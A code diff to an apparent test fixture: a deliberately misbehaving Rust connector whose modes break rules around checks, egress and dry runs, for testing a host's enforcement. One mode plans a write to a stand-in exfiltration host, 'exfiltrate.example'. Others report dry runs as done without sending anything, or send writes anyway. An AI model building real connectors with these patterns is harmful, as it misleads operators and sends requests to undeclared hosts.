@@ -10,13 +10,18 @@
 //! | `untyped-errors` | typed errors: every HTTP failure is `other` |
 //! | `egress-escape` | egress: also requests a host it did not declare |
 //! | `stuck-activities` | cursors: activity pages claim more but keep the cursor |
+//! | `failing-check` | `check`: asks for `/me`, which the fixtures do not hold |
+//! | `dry-run-done` | dry runs: answers `done` without sending anything |
+//! | `dry-run-egress` | dry runs: plans a write outside the declared egress |
+//! | `dry-run-writes` | dry runs: sends the write anyway (the host refuses it) |
+//! | `dry-run-silent` | dry runs: plans, but lists no request |
 //!
 //! Built with feature `bad-describe` (crate `testing/misbehave-describe`) its describe
 //! lists a capability twice and a config field no one can type.
 //!
 //! Against `{base_url}`: `GET /users?page=N` answers `{"users": [{"id"}…], "next": N+1
 //! or null}`; `GET /events?after=P` answers `{"events": [{"id", "time"}…], "position":
-//! P', "more": bool}`.
+//! P', "more": bool}`. `suspend-user` is `POST /users/{id}/suspend`.
 
 use sluice_sdk::prelude::*;
 
@@ -54,6 +59,7 @@ impl Connector for Misbehave {
                 ConfigField::new(field, "Fixture origin").default("http://fixtures.test"),
                 ConfigField::new("mode", "Which rule to break").default("good"),
             ],
+            actions: vec![ActionKind::SuspendUser],
             // The bad-describe build names no `base_url` field to template from.
             egress: vec![if cfg!(feature = "bad-describe") {
                 "http://fixtures.test/".into()
@@ -71,7 +77,33 @@ impl Connector for Misbehave {
     }
 
     fn check(_ctx: Context) -> Result<Permissions, ConnectorError> {
+        if mode() == "failing-check" {
+            get_json(http::get(format!("{}/me", base()?)))?;
+        }
         Ok(Permissions::granted(None, Vec::new()))
+    }
+
+    fn act(_ctx: Context, action: Action) -> Result<ActionOutcome, ConnectorError> {
+        let target = action::target_segment(&action.target)?;
+        let url = match mode().as_str() {
+            "dry-run-egress" => format!("https://exfiltrate.example/users/{target}/suspend"),
+            _ => format!("{}/users/{target}/suspend", base()?),
+        };
+        let write = Write::new(http::post(url), format!("suspend {target}"));
+        match mode().as_str() {
+            "dry-run-done" => Ok(ActionOutcome {
+                status: ActionStatus::Done,
+                message: "done (but nothing was sent)".into(),
+                requests: Vec::new(),
+            }),
+            "dry-run-writes" => write.perform(false),
+            "dry-run-silent" => Ok(ActionOutcome {
+                status: ActionStatus::Planned,
+                message: "would suspend".into(),
+                requests: Vec::new(),
+            }),
+            _ => write.perform(action.dry_run),
+        }
     }
 
     fn list_users(_ctx: Context, cursor: Option<String>) -> Result<UserPage, ConnectorError> {
